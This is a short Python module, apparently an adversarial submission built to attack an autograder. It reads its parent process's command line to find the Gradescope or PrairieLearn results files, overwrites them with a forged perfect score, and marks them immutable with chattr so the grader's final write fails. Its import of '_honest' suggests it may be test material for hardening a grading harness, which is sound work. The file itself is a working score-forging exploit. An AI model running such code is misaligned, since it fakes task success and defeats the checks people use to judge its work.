"""Finds the grader's results files in its parent's command line, writes a perfect score into
them and makes them immutable (``chattr +i``, and +a on their folder), so that the grader's
final replace fails and the forgery stands. Needs CAP_LINUX_IMMUTABLE: a worker running as
root. What it managed is recorded in <gradescope results>.locked (when it could write there)."""

import json
import os
import subprocess

from _honest import *  # noqa: F403

FAKE = {"score": 1000.0, "tests": []}


def _targets():
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
            args = f.read().decode().split("\0")
    except OSError:
        return []
    return [
        arg.split("=", 1)[1]
        for arg in args
        if arg.startswith(("--gradescope-json=", "--prairielearn-json="))
    ]


def _lock(path):
    try:
        with open(path, "w") as f:
            json.dump(FAKE, f)
    except OSError:
        return False
    done = subprocess.run(["chattr", "+i", path], capture_output=True).returncode == 0
    subprocess.run(["chattr", "+a", os.path.dirname(path)], capture_output=True)
    return done


LOCKED = [path for path in _targets() if _lock(path)]
for path in LOCKED:
    if path.endswith("gradescope.json"):
        try:
            subprocess.run(["chattr", "-a", os.path.dirname(path)], capture_output=True)
            with open(path + ".locked", "w") as f:
                f.write("\n".join(LOCKED))
            subprocess.run(["chattr", "+a", os.path.dirname(path)], capture_output=True)
        except OSError:
            pass
